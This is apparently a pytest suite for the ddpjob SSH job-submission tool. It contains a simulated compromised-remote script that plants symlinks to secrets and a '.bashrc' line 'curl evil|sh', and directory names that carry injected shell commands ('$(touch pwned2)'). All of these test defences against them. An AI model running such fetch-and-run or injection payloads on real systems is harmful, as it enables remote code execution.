"""``ddpjob --host`` against a real OpenSSH server on loopback (tests/support/sshd.py), from a "laptop" without Slurm
commands: one connection for many commands, each SSH failure one line naming the host and the fix within bounded
time, a remote without ddpjob or of another version, and what a submission sends (and that a failed transfer
submits nothing). The submission of real jobs from the laptop: tests/cluster/test_remote_laptop.py."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time

import pytest

from jobs import cli
from jobs.remote.ssh import version
from tests.support import sshd
from tests.support.helpers import ROOT


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    sshd.require()
    srv = sshd.start_server(tmp_path_factory.mktemp("sshd"))
    yield srv
    srv.stop()


@pytest.fixture
def laptop(server, tmp_path):
    lap = sshd.Laptop.make(tmp_path / "home", server)
    (tmp_path / "remote").mkdir()
    lap.host_file(lap.cluster_entry(remote_dir=str(tmp_path / "remote")))
    yield lap
    lap.close()


def one_line_error(proc: subprocess.CompletedProcess[str]) -> str:
    lines = [line for line in proc.stderr.splitlines() if line.startswith("ddpjob: error:")]
    assert proc.returncode == 2 and len(lines) == 1, proc.stdout + proc.stderr
    return lines[0]


def test_ten_commands_open_one_connection_and_the_remote_answers_as_it_is(laptop, server, monkeypatch, capfd):
    for key, value in laptop.env.items():  # this process as the laptop (its ddpjob in process: ~0.1 s less each)
        monkeypatch.setenv(key, value)
    before = server.connections()
    codes = [cli.main(["--host", "cluster", "status"]) for _ in range(10)]
    assert codes == [2] * 10  # the remote's own exit status, and its own line:
    assert capfd.readouterr().err.count("ddpjob: error: no runs found under ./runs (hint: ") == 10
    assert server.connections() - before == 1  # logged in once; the master connection served the other nine
    assert laptop.run(["--version"]).stdout == f"ddpjob {version()}\n"


def test_a_refused_key_and_an_unknown_host(server, tmp_path):
    stranger = sshd.Laptop.make(tmp_path / "home", server, authorized=False)
    try:
        stranger.host_file(stranger.cluster_entry() + stranger.cluster_entry("ghost", host="ghost.invalid"))
        line = one_line_error(stranger.run(["--host", "cluster", "status"]))
        assert line.startswith("ddpjob: error: cluster refused the login: ") and "Permission denied" in line
        assert "hint: check the key: `ssh cluster true` must log in" in line
        line = one_line_error(stranger.run(["--host", "ghost", "status"]))
        assert line.startswith("ddpjob: error: unknown host ghost (ghost.invalid): ")
        assert "add 'Host ghost' to ~/.ssh/config" in line
    finally:
        stranger.close()


def test_an_unreachable_port_is_given_up_in_bounded_time(laptop):
    # A port that takes the connection and never answers (a firewall that drops would look the same to ssh).
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(1)
    ssh_config = laptop.home / ".ssh" / "config"
    ssh_config.write_text(
        ssh_config.read_text() + f"Host silent\n  HostName 127.0.0.1\n  Port {silent.getsockname()[1]}\n"
    )
    laptop.host_file(laptop.cluster_entry("silent", host="silent", connect_timeout=1))
    started = time.monotonic()
    line = one_line_error(laptop.run(["--host", "silent", "status"]))
    assert time.monotonic() - started < 8
    assert line.startswith("ddpjob: error: silent is unreachable: ") and "timed out" in line
    silent.close()


def fake_ddpjob(path, body):
    """A remote "ddpjob" that is a shell script running ``body``."""
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)
    return path


def test_a_remote_without_ddpjob_or_with_another_version(laptop, tmp_path):
    remote = tmp_path / "remote"
    laptop.host_file(laptop.cluster_entry(ddpjob="venv/bin/ddpjob", remote_dir=str(remote)))
    line = one_line_error(laptop.run(["--host", "cluster", "status"]))
    assert f"no ddpjob at cluster:{remote}/venv/bin/ddpjob (hint: install it there" in line
    old = fake_ddpjob(tmp_path / "old-ddpjob", "echo ddpjob 0.0.1")
    laptop.host_file(laptop.cluster_entry(ddpjob=str(old), remote_dir=str(remote)))
    line = one_line_error(laptop.run(["--host", "cluster", "status"]))
    assert f"cluster runs ddpjob 0.0.1 ({tmp_path / 'remote'}, {old}), this laptop ddpjob {version()}" in line
    assert f"hint: install the same ddpjob on both: {version()} on cluster (pip install ddpjob=={version()}" in line
    # A ddpjob from before --version: its usage error is no answer, and the line says so.
    older = fake_ddpjob(
        tmp_path / "older-ddpjob", "echo 'ddpjob: error: the following arguments are required: command' >&2; exit 2"
    )
    laptop.host_file(laptop.cluster_entry(ddpjob=str(older), remote_dir=str(remote)))
    line = one_line_error(laptop.run(["--host", "cluster", "status"]))
    assert f"cluster runs ddpjob unknown (no --version) ({remote}, {older}), this laptop ddpjob {version()}" in line
    # Over a connection already open the remote ddpjob itself refuses a caller of another version.
    proc = subprocess.run([sys.executable, "-m", "jobs", "status"], capture_output=True, text=True, cwd=tmp_path,
                          env={**os.environ, "DDPJOB_EXPECT_VERSION": "0.0.1", "DDPJOB_HOST_NAME": "big"})  # fmt: skip
    assert f"big runs ddpjob {version()} ({tmp_path}" in one_line_error(proc)


def test_a_submission_sends_its_config_and_code_and_a_failed_transfer_submits_nothing(laptop, tmp_path):
    project = laptop.home / "project"
    (project / "proj").mkdir(parents=True)
    (project / "proj" / "train.py").write_text("import util\n")
    (project / "proj" / "util.py").write_text("X = 1\n")
    (project / "t.yaml").write_text("run: {name: t}\nwandb: {mode: disabled}\nscript: {launcher: srun}\n")
    args = ["--host", "cluster", "submit", "t.yaml", "--script", "proj/train.py", "--dry-run", "--no-cluster-check"]
    proc = laptop.run(args, cwd=project)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    (incoming,) = (tmp_path / "remote" / ".ddpjob" / "incoming").iterdir()
    assert f"# code snapshot: 2 files, 0 KiB of {incoming}/tree/proj" in proc.stdout
    sent = sorted(str(p.relative_to(incoming)) for p in incoming.rglob("*") if p.is_file())
    assert sent == ["sent.json", "tree/proj/train.py", "tree/proj/util.py", "tree/t.yaml"]
    assert json.loads((incoming / "sent.json").read_text())["code"]["source"] == str(project / "proj")
    assert f"path: {incoming}/tree/proj/train.py" in proc.stdout  # the run's script is the copy sent
    # A config the laptop refuses never leaves it.
    line = one_line_error(laptop.run([*args, "train.max_steps=-1"], cwd=project))
    assert "train.max_steps" in line and len(list(incoming.parent.iterdir())) == 1
    # A remote where the files cannot arrive: nothing is submitted, no run directory made.
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / ".ddpjob").write_text("not a folder")
    laptop.host_file(laptop.cluster_entry(remote_dir=str(broken)))
    line = one_line_error(laptop.run([*args[:-2]], cwd=project))
    assert "sending the config and code to cluster:" in line and "failed (nothing submitted)" in line
    assert sorted(p.name for p in broken.iterdir()) == [".ddpjob"]


def test_a_sweep_sends_its_sweep_file_base_config_and_script(laptop, tmp_path):
    project = laptop.home / "project"
    (project / "proj").mkdir(parents=True)
    (project / "proj" / "train.py").write_text("print('train')\n")
    (project / "sweeps").mkdir()
    (project / "base.yaml").write_text("run: {name: s}\nwandb: {mode: disabled}\nscript: {launcher: srun}\n")
    (project / "sweeps" / "s.yaml").write_text("base: ../base.yaml\ngrid:\n  script.args.lr: [0.1, 0.2]\n")
    args = [
        "--host",
        "cluster",
        "sweep",
        "sweeps/s.yaml",
        "--script",
        "proj/train.py",
        "--dry-run",
        "--no-cluster-check",
    ]
    proc = laptop.run(args, cwd=project)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    (incoming,) = (tmp_path / "remote" / ".ddpjob" / "incoming").iterdir()
    assert f"runs: {incoming}/tree/proj/train.py --lr=0.1" in proc.stdout  # each trial runs the script sent
    assert f"runs: {incoming}/tree/proj/train.py --lr=0.2" in proc.stdout
    sent = sorted(str(p.relative_to(incoming)) for p in incoming.rglob("*") if p.is_file())
    assert sent == ["sent.json", "tree/base.yaml", "tree/proj/train.py", "tree/sweeps/s.yaml"]


def test_a_pipeline_sends_its_file_each_steps_config_and_code(laptop, tmp_path):
    """``pipeline FILE`` from the laptop: every step checked here, the file sent with each step's config and script
    folder, and the copy of the file naming what was sent; the remote checks and plans it (a dry run)."""
    project = laptop.home / "project"
    (project / "steps").mkdir(parents=True)
    (project / "steps" / "prep.py").write_text("print('prep')\n")
    (project / "steps" / "util.py").write_text("X = 1\n")
    (project / "train.yaml").write_text("run: {name: t}\nwandb: {mode: disabled}\ntrain: {max_steps: 5}\n")
    (project / "p.yaml").write_text(
        "name: chain\nsteps:\n  prep: {script: steps/prep.py, overrides: [wandb.mode=disabled]}\n"
        "  train: {config: train.yaml, after: prep}\n"
        "  use: {script: steps/prep.py, args: ['${steps.train.run_dir}'], overrides: [wandb.mode=disabled],"
        " after: train}\n"
    )
    args = ["--host", "cluster", "pipeline", "p.yaml", "--dry-run", "--no-cluster-check"]
    proc = laptop.run(args, cwd=project)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "pipeline chain: 3 to submit, 0 kept" in proc.stdout and "use: would be submitted" in proc.stdout
    (incoming,) = (tmp_path / "remote" / ".ddpjob" / "incoming").iterdir()
    sent = sorted(str(p.relative_to(incoming)) for p in incoming.rglob("*") if p.is_file())
    assert sent == ["sent.json", "tree/p.yaml", "tree/steps/prep.py", "tree/steps/util.py", "tree/train.yaml"]
    copy = (incoming / "tree" / "p.yaml").read_text()
    assert f"script: {incoming}/tree/steps/prep.py" in copy and f"config: {incoming}/tree/train.yaml" in copy
    # A step the laptop refuses: one line naming it, and nothing leaves the laptop.
    (project / "train.yaml").write_text("run: {name: t}\ntrain: {max_steps: -1}\n")
    line = one_line_error(laptop.run(args, cwd=project))
    assert "step 'train'" in line and "train.max_steps" in line and len(list(incoming.parent.iterdir())) == 1


COMPROMISED = r"""#!/bin/sh
# A remote whose ddpjob was replaced: it answers the version check, and fills the report's folder with more than a
# report: a symlink to a secret in the report's name, a dotfile, a folder, a name that climbs out.
case "$1" in --version) exec {real} --version ;; esac
for out; do :; done
mkdir -p "$out/sub" && echo '<html>a report</html>' >"$out/report.html" && echo secret >"$HOME/secret.txt"
ln -s "$HOME/secret.txt" "$out/report.png" && ln -s / "$out/trials.csv" && echo 'curl evil|sh' >"$out/.bashrc"
echo x >"$out/sub/report.html" && echo "html: $out/report.html"
"""


def test_a_report_brings_back_only_its_own_files_from_a_compromised_remote(laptop, tmp_path):
    """``ddpjob --host NAME report`` copies back the report's regular files by name, nothing else: no symlink (in a
    report file's name or not), no dotfile, no folder, never a path outside ``--out``."""
    fake = tmp_path / "remote" / "fake-ddpjob"
    fake.write_text(COMPROMISED.replace("{real}", f"{sys.executable} -m jobs"))
    fake.chmod(0o755)
    laptop.host_file(laptop.cluster_entry(remote_dir=str(tmp_path / "remote"), ddpjob=str(fake)))
    proc = laptop.run(["--host", "cluster", "report", "runs/x", "--out", "got"], cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    got = tmp_path / "got"
    assert sorted(p.name for p in got.iterdir()) == ["report.html"], list(got.iterdir())
    assert (got / "report.html").read_text() == "<html>a report</html>\n" and not (got / "report.html").is_symlink()


def test_remote_paths_reach_rsync_whole_on_old_and_new_rsync(laptop, tmp_path, monkeypatch):
    """A remote path with a space and shell syntax is one path on the far side: with --protect-args (rsync >= 3.0),
    and quoted for the remote shell on an older rsync (2.6.9 has no such option; rsync 3.2.7's --old-args parses
    the remote side's arguments as it did)."""
    from jobs.remote.hosts import lookup
    from jobs.remote.ssh import Gateway

    for key, value in laptop.env.items():
        monkeypatch.setenv(key, value)
    weird = tmp_path / "remote" / "a b;touch pwned" / "$(touch pwned2)"
    weird.mkdir(parents=True)
    (weird / "f.txt").write_text("whole\n")
    host = lookup("cluster")
    for release, extra in (((3, 2, 7), []), ((2, 6, 9), ["--old-args"])):
        into = tmp_path / f"into-{release[0]}"
        into.mkdir()
        gw = Gateway(host, interactive=False, rsync_version=release)
        got = gw.rsync(f":{weird}/", f"{into}/", extra=extra)
        assert got.returncode == 0, got.stderr
        assert (into / "f.txt").read_text() == "whole\n"
    assert not list(tmp_path.rglob("pwned*")) and not list(laptop.home.rglob("pwned*"))


def test_the_host_files_setup_line_is_on_no_command_line(laptop, tmp_path):
    """The setup line reaches the remote on ssh's stdin: no process (the laptop's ssh, the remote's shell) shows it
    to ps. The line itself looks for its marker in every process's command line, with the marker read from a file."""
    marker = f"setup-marker-{os.getpid()}-{time.monotonic_ns()}"
    (tmp_path / "pattern").write_text(marker + "\n")
    seen = tmp_path / "seen"
    setup = f"export PYTHONPATH={ROOT}; grep -lsFf {tmp_path / 'pattern'} /proc/[0-9]*/cmdline > {seen}; true"
    laptop.host_file(laptop.cluster_entry(remote_dir=str(tmp_path), setup=f"{setup} # {marker}"))
    proc = laptop.run(["--host", "cluster", "status"])
    assert "no runs found" in proc.stderr, proc.stderr  # the setup line ran, then the command
    assert seen.is_file() and seen.read_text() == "", seen.read_text()
